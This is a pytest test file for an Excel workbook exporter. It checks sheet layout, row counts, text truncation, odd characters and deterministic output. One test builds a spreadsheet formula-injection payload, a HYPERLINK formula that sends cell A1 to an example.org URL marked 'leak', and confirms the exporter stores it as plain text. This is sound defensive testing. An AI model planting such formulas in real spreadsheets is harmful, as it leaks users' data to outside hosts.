"""The workbook, read back by openpyxl."""

from __future__ import annotations

import io
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dossier.sample import CASE, DOCUMENTS, REGISTER, SHELLS
from tidewaiter.contract import register_cells
from tidewaiter.exports import workbook
from tidewaiter.exports.sheets import Sheet, Value, sheets_of
from tidewaiter.exports.workbook import CUT, MOST_CHARACTERS, fitting, write_workbook
from tidewaiter.model import AsOf, Cell, Clock, Register
from tidewaiter.wording import category_words, document_name

AT = "2031-06-01T09:30:00Z"
BY_ID = {one.id: one for one in DOCUMENTS}


def made(scratch: Path, register: Register = REGISTER) -> bytes:
    handle = io.BytesIO()
    write_workbook(handle, sheets_of(register, DOCUMENTS, BY_ID, CASE), AT, str(scratch))
    return handle.getvalue()


def of_rows(scratch: Path, *rows: Sequence[Value]) -> openpyxl.Workbook:
    handle = io.BytesIO()
    write_workbook(handle, [Sheet("one", (("Heading", 20),), rows)], AT, str(scratch))
    return openpyxl.load_workbook(handle)


def test_every_sheet_is_there_with_headings_frozen_filtered_and_wide_enough(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(io.BytesIO(made(tmp_path)))
    names = ["register", "claims", "origins", "open questions", "responses", "sources", "about"]
    assert book.sheetnames == names
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(sheet.max_row, sheet.max_column).coordinate}"
        assert sheet.cell(1, 1).font.bold
        assert sheet.column_dimensions["A"].width > 10


def test_the_register_has_the_cells_of_the_table_and_dates_stay_text(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(io.BytesIO(made(tmp_path)))
    headings, *rows = book["register"].iter_rows(values_only=True)
    wanted, cells = register_cells(REGISTER)
    assert headings == (*wanted, "Independent origins")
    category = wanted.index("Category")
    for found, row in zip(rows, cells, strict=True):
        in_words = (*row[:category], category_words(row[category]), *row[category + 1 :])
        assert tuple("" if one is None else str(one) for one in found[:-1]) == in_words
        assert isinstance(found[wanted.index("Reports")], int)
    claims = book["claims"]
    days = [row[headings_of(claims).index("Said on")] for row in list(claims.iter_rows(values_only=True))[1:]]
    assert all(day is None or isinstance(day, str) for day in days)
    assert any(days)


def headings_of(sheet: openpyxl.worksheet.worksheet.Worksheet) -> tuple[object, ...]:
    return next(sheet.iter_rows(values_only=True))


def test_every_claim_question_and_origin_is_in_with_its_words(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(io.BytesIO(made(tmp_path)))
    count = {sheet.title: sheet.max_row - 1 for sheet in book}
    rows = REGISTER.rows
    assert count["claims"] == sum(len(one.claims) for row in rows for one in row.positions)
    assert count["open questions"] == sum(len(row.open) + len(row.closed) for row in rows)
    assert count["responses"] == len(REGISTER.responses)
    assert count["sources"] == len(DOCUMENTS)
    words = headings_of(book["claims"]).index("Words")
    assert all(row[words] for row in list(book["claims"].iter_rows(values_only=True))[1:])


def test_reports_are_called_by_what_readers_know_and_nothing_by_a_code(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(io.BytesIO(made(tmp_path)))
    names = {document_name(one) for one in DOCUMENTS}
    for title, column in (("claims", "Report"), ("origins", "Reports"), ("open questions", "Reports")):
        place = headings_of(book[title]).index(column)
        told = [row[place] for row in book[title].iter_rows(min_row=2, values_only=True) if row[place]]
        assert told
        assert all(any(line.startswith(name) for name in names) for one in told for line in one.split("\n"))
        assert not any(one.source in line for line in told for one in DOCUMENTS)
    for title, column in (("register", "Category"), ("origins", "Kind"), ("open questions", "Kind")):
        place = headings_of(book[title]).index(column)
        assert not any("_" in str(row[place]) for row in book[title].iter_rows(values_only=True))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "{="])
def test_what_looks_like_a_formula_is_text(tmp_path: Path, start: str) -> None:
    hostile = f'{start}HYPERLINK("http://example.org/?leak="&A1,"click")'
    book = of_rows(tmp_path, (hostile,), ("http://example.org/",))
    for row in (2, 3):
        cell = book["one"].cell(row, 1)
        assert cell.data_type == "s"
        assert cell.hyperlink is None
    assert book["one"].cell(2, 1).value == hostile


def test_a_formula_in_a_cell_of_the_register_stays_text_without_an_apostrophe(tmp_path: Path) -> None:
    cells = {**SHELLS.cells, "comments": Cell("=1+1")}
    found = made(tmp_path, replace(REGISTER, rows=(replace(SHELLS, cells=cells),)))
    cell = openpyxl.load_workbook(io.BytesIO(found))["register"].cell(2, 9)
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_the_same_case_gives_the_same_bytes(tmp_path: Path) -> None:
    assert made(tmp_path) == made(tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_a_text_that_is_too_long_is_cut_and_says_so(tmp_path: Path) -> None:
    for text in ("word " * 10_000, "𝔸" * 20_000):
        value = of_rows(tmp_path, (text,))["one"].cell(2, 1).value
        assert value.endswith(CUT)
        assert text.startswith(value.removesuffix(CUT))


@given(st.text(st.characters(exclude_categories=()), max_size=50))
def test_any_text_fits_and_can_be_written(text: str) -> None:
    assert len(fitting(text).encode("utf-16-le")) <= 2 * MOST_CHARACTERS


def test_texts_with_odd_characters_can_be_read_back(tmp_path: Path) -> None:
    odd = "a\x00b\x1bc\ud800d\uffffe _x0041_ \u202e"
    value = of_rows(tmp_path, (odd,))["one"].cell(2, 1).value
    assert "\u202e" in value
    assert "a\ufffdb\ufffdc\ufffdd\ufffde" in value


def test_more_rows_than_a_sheet_holds_go_on_in_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 3)
    book = of_rows(tmp_path, ("a",), ("b",), ("c",))
    assert [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in book] == [
        ["Heading", "a", "b"],
        ["Heading", "c"],
    ]


def test_a_day_that_is_past_is_said(tmp_path: Path) -> None:
    then = replace(REGISTER, as_of=AsOf("2031-05-01", Clock.HELD, 3, 6))
    book = openpyxl.load_workbook(io.BytesIO(made(tmp_path, then)))
    assert book["register"].cell(2, 19).value == "2031-05-01, held by then"
    assert any("as of 1 May 2031" in str(row[1]) for row in book["about"].iter_rows(values_only=True))
